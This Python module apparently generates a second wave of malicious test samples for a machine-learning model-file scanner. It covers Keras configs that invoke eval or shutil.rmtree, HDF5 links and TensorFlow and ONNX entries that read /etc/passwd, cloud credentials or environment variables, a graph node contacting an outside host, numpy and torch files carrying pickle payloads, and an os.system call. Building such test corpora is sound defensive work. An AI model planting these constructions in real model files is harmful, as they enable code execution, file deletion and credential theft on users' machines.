"""Wave 2. Keras objects, HDF5 references, graph operators, arrays and exports that are less known to be dangerous."""

import base64
import io
import json
import zipfile
from collections.abc import Iterator
from typing import Any

import h5py

from .archives import Member, tar_of, torch_zip, zip_of
from .carried import EVIL
from .graphs import ADD, PLACE, VARIABLES
from .keras_files import LAMBDA, _function, _inside, _layer, _model, _three
from .protobuf import constant, field, graph, node, saved_model
from .sample import COMMAND, HOST, URL, Sample

__all__ = ["samples"]


def _h5(write: Any) -> bytes:
    file = io.BytesIO()
    with h5py.File(file, "w") as weights:
        weights["layers/dense/vars/0"] = [[0.1, 0.2]]
        write(weights)
    return file.getvalue()


def _keras() -> Iterator[tuple[str, str, bytes]]:
    def three(*layers: dict[str, Any], **more: Any) -> tuple[str, bytes]:
        return "model.keras", _three(_model(*layers, **more))

    yield (
        "output shape that is code",
        *three(_layer("Lambda", {"name": "l", "function": _function("keras.ops", "abs"), "output_shape": LAMBDA})),
    )
    yield (
        "mask that is code",
        *three(_layer("Lambda", {"name": "l", "function": _function("keras.ops", "abs"), "mask": LAMBDA})),
    )
    rate = {
        "module": "keras.optimizers",
        "class_name": "Adam",
        "config": {"learning_rate": LAMBDA},
        "registered_name": None,
    }
    yield "learning rate that is code", *three(compile_config={"optimizer": rate, "loss": "mse"})
    yield "metric that is code", *three(compile_config={"optimizer": "adam", "loss": "mse", "metrics": [[LAMBDA]]})
    yield (
        "rmtree as an activation",
        *three(_layer("Dense", {"name": "e", "units": 1, "activation": _function("shutil", "rmtree")})),
    )
    yield "joblib's load by name", *three(_inside(_function("joblib", "load"), filename="x"))
    yield (
        "TensorFlow's read_file by name",
        *three(_inside(_function("tensorflow.io", "read_file"), filename="/etc/passwd")),
    )
    yield (
        "archives unpacked by name",
        *three(_inside(_function("keras.src.utils.file_utils", "extract_archive"), file_path="x.tar", path="/")),
    )
    yield (
        "standardisation by eval",
        *three(_layer("TextVectorization", {"name": "t", "standardize": _function("builtins", "eval")})),
    )
    yield (
        "weights of a vocabulary from a file",
        *three(_layer("StringLookup", {"name": "v", "vocabulary": ["a"], "idf_weights": "/etc/passwd"})),
    )
    yield "in a tar", "model.tar.gz", tar_of({"m/model.keras": _three(_model(_inside(LAMBDA)))}, "w:gz")
    layout = h5py.VirtualLayout((4,), "u1")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", (4,), "u1")
    yield "virtual data set of another file", "w.h5", _h5(lambda file: file.create_virtual_dataset("v", layout))
    yield (
        "link outward in a deep group",
        "model.weights.h5",
        _h5(
            lambda file: file.create_group("a/b/c/d").__setitem__(
                "e", h5py.ExternalLink("../../../../root/secrets.h5", "/k")
            )
        ),
    )
    old = {
        "class_name": "Sequential",
        "config": [
            {
                "class_name": "Lambda",
                "config": {"function": LAMBDA["config"]["code"], "function_type": "lambda", "output_shape": None},
            }
        ],
    }
    yield (
        "metadata of a SavedModel",
        "keras_metadata.pb",
        field(
            1,
            field(2, "root")
            + field(4, "_tf_keras_sequential")
            + field(5, json.dumps({"name": "s", "class_name": "Sequential", "config": old["config"]})),
        ),
    )
    yield (
        "weights in npz of objects",
        "model.keras",
        zip_of(
            Member("config.json", json.dumps(_model()).encode()),
            Member("metadata.json", b"{}"),
            Member("model.weights.npz", zip_of(Member("a.npy", _npy()))),
        ),
    )


def _npy(descr: str = "'|O'", shape: str = "(1,)") -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + EVIL


def _arrays() -> Iterator[tuple[str, str, bytes]]:
    yield "dtype O8", "a.npy", _npy("'|O8'")
    yield "dtype written object", "a.npy", _npy("'object'")
    yield "object within a nested field", "a.npy", _npy("[('x', '<f4'), ('y', [('z', '|O')])]")
    yield "object in a sub-array", "a.npy", _npy("[('x', '|O', (2,))]")
    yield "no elements, and a pickle", "a.npy", _npy(shape="(0,)")
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("w.npy", _npy())
    yield "npz by LZMA", "w.npz", file.getvalue()


def _tensorflow() -> Iterator[tuple[str, dict[str, bytes]]]:
    def model(*nodes: bytes) -> dict[str, bytes]:
        return {"saved_model.pb": saved_model(graph(PLACE, ADD, *nodes)), **VARIABLES}

    path = constant("n", "/etc/passwd")
    yield (
        "table from a file outside",
        model(path, node("t", "HashTableV2"), node("i", "InitializeTableFromTextFileV2", "t", "n")),
    )
    yield "summary writer", model(path, node("w", "SummaryWriter"), node("c", "CreateSummaryFileWriter", "w", "n"))
    yield "data service", model(constant("a", f"grpc://{HOST}:5000"), node("d", "DataServiceDatasetV4", "a"))
    yield "records of a secret", model(path, node("d", "FixedLengthRecordDatasetV2", "n"))
    yield "cache into a file", model(path, node("d", "CacheDatasetV2", "x", "n"))
    yield "dataset saved to a path", model(path, node("d", "SaveDatasetV2", "x", "n"))
    yield "file of an address", model(constant("n", URL), node("r", "ReadFile", "n"))


def _onnx() -> Iterator[tuple[str, dict[str, bytes]]]:
    from onnx import TensorProto, helper

    def outside(location: str) -> TensorProto:
        tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2], data_location=TensorProto.EXTERNAL)
        tensor.external_data.add(key="location", value=location)
        return tensor

    info = helper.make_tensor_value_info
    ends = ([info("x", 1, [2])], [info("y", 1, [2])])
    add = helper.make_node("Add", ["x", "x"], ["y"])
    body = [
        helper.make_node("Constant", [], ["c"], value=outside("../../.aws/credentials")),
        helper.make_node("Add", ["x", "c"], ["y"]),
    ]
    local = helper.make_function("local", "F", ["x"], ["y"], body, [helper.make_opsetid("", 18)])
    used = helper.make_graph([helper.make_node("F", ["x"], ["y"], domain="local")], "g", *ends)
    yield (
        "external data upwards in a function",
        {"model.onnx": helper.make_model(used, functions=[local]).SerializeToString()},
    )
    sparse = helper.make_graph([add], "g", *ends)
    sparse.sparse_initializer.add().values.CopyFrom(outside("/root/.netrc"))
    yield "external data absolute in a sparse tensor", {"model.onnx": helper.make_model(sparse).SerializeToString()}
    listed = helper.make_node("Custom", ["x"], ["y"], domain="ai.x", tensors=[outside("../../../k")])
    yield (
        "external data upwards in a list",
        {"model.onnx": helper.make_model(helper.make_graph([listed], "g", *ends)).SerializeToString()},
    )
    made = helper.make_model(helper.make_graph([add], "g", *ends))
    helper.set_model_props(made, {"state": base64.b64encode(EVIL).decode()})
    yield "pickle in its metadata", {"model.onnx": made.SerializeToString()}
    made = helper.make_model(helper.make_graph([add], "g", *ends))
    made.training_info.add().algorithm.CopyFrom(
        helper.make_graph([add], "t", [], [], [outside("../../../../proc/self/environ")])
    )
    yield "external data upwards in its training", {"model.onnx": made.SerializeToString()}


def _exports() -> Iterator[tuple[str, dict[str, bytes]]]:
    attack = f"__import__('os').system('{COMMAND}')"
    graph_module = {
        "graph": {
            "inputs": [],
            "outputs": [],
            "nodes": [],
            "tensor_values": {},
            "sym_int_values": {"s0": {"as_expr": {"expr_str": attack, "hint": None}}},
        }
    }
    program = {
        "graph_module": graph_module,
        "opset_version": {"aten": 10},
        "schema_version": {"major": 8, "minor": 1},
        "range_constraints": {},
    }
    yield (
        "expression of a symbol",
        {
            "m.pt2": zip_of(
                Member("serialized_exported_program.json", json.dumps(program).encode()), Member("version", b"8.1")
            )
        },
    )
    yield (
        "example inputs",
        {
            "m.pt2": zip_of(
                Member("archive/archive_format", b"pt2"),
                Member("archive/version", b"0"),
                Member("archive/data/sample_inputs/model.pt", torch_zip(EVIL)),
            )
        },
    )
    yield (
        "mobile's byte code beside a payload",
        {
            "m.ptl": zip_of(
                Member("m/bytecode.pkl", b"\x80\x02."), Member("m/data.pkl", EVIL), Member("m/version", b"6\n")
            )
        },
    )


def samples() -> Iterator[Sample]:
    for name, file, data in _keras():
        yield Sample("keras files", f"2: {name}", {file: data}, wave=2)
    for name, file, data in _arrays():
        yield Sample("numpy: objects", f"2: {name}", {file: data}, wave=2)
    for group, made in (("tensorflow graphs", _tensorflow()), ("onnx files", _onnx()), ("torch files", _exports())):
        for name, files in made:
            yield Sample(group, f"2: {name}", files, wave=2)
